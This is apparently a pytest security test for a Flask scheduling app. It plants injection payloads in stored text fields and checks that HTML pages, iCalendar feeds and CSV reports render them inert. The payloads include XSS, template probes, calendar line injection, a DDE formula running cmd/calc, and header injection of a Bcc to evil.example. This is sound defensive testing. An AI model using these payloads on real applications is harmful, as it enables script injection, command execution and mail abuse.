"""What an attacker might have stored, in every column of text of the demo: each page, calendar and list stays whole
(TRUST S14, S16).

The database is written past the product, as if every check of a form had failed. Where a column, or a law of the
database, takes no such text, the next payload is tried, and then the column is left.
"""

import csv
import io
import re
from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
import sqlalchemy as sa
from flask import Flask
from icalendar import Calendar
from markupsafe import escape
from sqlalchemy.exc import DBAPIError

from scheduler.core.db import Base, db
from tests.laws.crawl import AS_SERVED, Crawl, write_calendars

NOT_OPENED = {"people.sign_out"}
MARK = "qzq"  # stands in each payload, and nowhere else
PAYLOADS = (
    f'<script>{MARK}()</script>"><img src=x onerror={MARK}()>',
    f"'\"--><svg onload={MARK}()><!-- {{{{7*7}}}} ${{7*7}} %s%n",
    f"{MARK}\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nX-{MARK}:1\r\nEND:VALARM",
    f"{MARK}\x85ATTENDEE:{MARK}\u2028X-{MARK}:1\x0bX-{MARK}:2\x0cX-{MARK}:3",
    f"=cmd|'/c calc {MARK}'!A1",
    f"+1+1{MARK}",
    f"@SUM(1;{MARK})",
    f"{MARK}\r\nBcc: {MARK}@evil.example",
    f"=?utf-8?q?{MARK}=0D=0ABcc:{MARK}@evil.example?=",
    f"\u202e{MARK}\u2069\u200b",
)
EVALUATED = "!-- 49 "  # of the second payload, if a template or a format had read it
# Codes, digests, addresses of pages and JSON, by which the product finds and reads its rows: no person types them.
NOT_TYPED = re.compile(
    "slug|series|key|hash|secret|seal|digest|sha256|token|uid|etag|algorithm|public|iso|zone|language|kind|state|stage"
    "|^number|^code|running_number|catalogue_number|heading|field|^series|network|credential_id|issuer|subject|purpose"
    "|school_year|applies_to|postcode|answers|said|answer|draft|told|before|details|result|names|thing|action|actor"
    "|colour|accent|signatories|wordings|list_name|people|districts|programmes|crew|printed|text_version|asked_text"
    "|link_|message_id|stored_by|made_by|left_mark|batch|register_id|moved_from_times|margin|choices|booking|choice"
    "|first_grades|first_sections|middle_grades|email|papers|address$"
)
# A split that a reader chooses in the form of the report.
CSV_OF_NAMES = "/reports/attendance.csv?by=city&by=presenter&first=2026-01-01&last=2026-12-31"
TABLES_NOT_TYPED = {"audit_entry", "outbox_message", "calendar_entry", "feed_body", "job_run"}


def typed_columns() -> Iterator[sa.Column[str]]:
    for table in Base.metadata.sorted_tables:
        for column in table.columns if table.name not in TABLES_NOT_TYPED else ():
            kind = getattr(column.type, "impl", column.type)
            plain = isinstance(kind, sa.String) and not isinstance(kind, sa.Enum) and not column.foreign_keys
            if plain and not NOT_TYPED.search(column.name):
                yield column


def planted(turn: int) -> tuple[list[str], list[str]]:
    """(columns that hold a payload now, columns whose every row the database defends); another payload each `turn`."""
    written, refused = [], []
    with db.engine.connect() as connection:
        for number, column in enumerate(typed_columns()):
            table = column.table
            keys = connection.execute(sa.select(*table.primary_key).where(column != "")).all()
            taken = 0
            for place, key in enumerate(keys):
                for more in range(len(PAYLOADS)):
                    payload = PAYLOADS[(turn + number + place + more) % len(PAYLOADS)]
                    try:
                        with connection.begin_nested():
                            where = [part == value for part, value in zip(table.primary_key, key, strict=True)]
                            connection.execute(sa.update(table).where(*where).values({column.name: payload}))
                        taken += 1
                        break
                    except DBAPIError:
                        continue
            if keys:
                (written if taken else refused).append(f"{table.name}.{column.name}")
        connection.commit()
    return written, refused


class Markup(HTMLParser):
    """What a browser would make of a payload: an element or an attribute of its own."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if any(MARK in name or name.startswith("on") for name, _value in attrs):
            self.found.append(self.get_starttag_text() or tag)
        if any(name in ("href", "src", "action") and (value or "").startswith("javascript") for name, value in attrs):
            self.found.append(self.get_starttag_text() or tag)

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script" and MARK in data:
            self.found.append(data[:80])


def harm_in(headers: str, kind: str, body: str) -> str:
    """What an answer does that a payload must not make it do; empty where nothing."""
    if MARK in headers and ("\n" in headers or "\r" in headers):
        return "a header of its own"
    if EVALUATED in body:
        return "a template expression that was evaluated"
    if kind == "text/html":
        reader = Markup()
        reader.feed(body)
        return reader.found[0] if reader.found else ""
    if kind == "text/calendar":
        return harm_in_calendar(body)
    if kind == "text/csv":
        rows = csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";")
        return next((cell for row in rows for cell in row if MARK in cell and cell[:1] in "=+-@\t\r"), "")
    return ""


def harm_in_calendar(body: str) -> str:
    lines = re.split(r"\r\n|[\n\r\v\f\x85\u2028\u2029]", re.sub(r"\r?\n[ \t]", "", body))
    names = {line.partition(":")[0].partition(";")[0] for line in lines}
    if wrong := [name for name in names if MARK.upper() in name.upper()]:
        return wrong[0]
    parts = {part.name for part in Calendar.from_ical(body).walk()}
    return ", ".join(sorted(parts - {"VCALENDAR", "VEVENT", "VTIMEZONE", "STANDARD", "DAYLIGHT"}))


@pytest.mark.deep
@pytest.mark.database
@pytest.mark.parametrize("turn", range(3))
def test_nothing_that_is_stored_becomes_markup_a_line_a_property_a_formula_or_an_error(
    house: Flask, crawl: Crawl, turn: int
) -> None:
    written, _refused = planted(turn)
    assert len(written) > 60
    db.session.remove()
    write_calendars()
    db.session.remove()
    harm, seen = [], Counter[str]()
    clients = {reader: crawl.client(house, reader) for reader in crawl.travellers}
    opened = [(page.reader, page.address) for page in crawl.pages if page.endpoint not in NOT_OPENED]
    for reader, address in [*opened, ("coordinator", CSV_OF_NAMES)]:
        with clients[reader].get(address, environ_overrides=AS_SERVED) as answer:
            body, headers = answer.data, "\0".join(f"{name}: {value}" for name, value in answer.headers)
        seen[answer.mimetype] += MARK.encode() in body
        text = body.decode() if answer.mimetype.startswith("text/") else ""
        found = "an error" if answer.status_code >= 500 else harm_in(headers, answer.mimetype, text)
        if found:
            harm.append((reader, address, found))
    assert harm == []
    assert all(seen[kind] for kind in ("text/html", "text/calendar", "text/csv"))


CALENDAR = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:1\r\nSUMMARY:{}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("text/html", PAYLOADS[0]),
        ("text/html", PAYLOADS[1]),
        ("text/html", str(escape(PAYLOADS[1].replace("{{7*7}}", "49")))),
        ("text/calendar", CALENDAR.format(PAYLOADS[1].replace("{{7*7}}", "49"))),
        ("text/calendar", CALENDAR.format(PAYLOADS[2])),
        ("text/calendar", CALENDAR.format(PAYLOADS[3])),
        *(("text/csv", f"a;{payload}") for payload in PAYLOADS[4:6]),
    ],
)
def test_the_law_sees_each_harm(kind: str, body: str) -> None:
    assert harm_in("", kind, body)


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("text/html", str(escape(PAYLOADS[0]))),
        ("text/calendar", CALENDAR.format(MARK)),
        ("text/csv", f"a;'{PAYLOADS[4]}"),
    ],
)
def test_the_law_lets_text_be_text(kind: str, body: str) -> None:
    assert harm_in("", kind, body) == ""
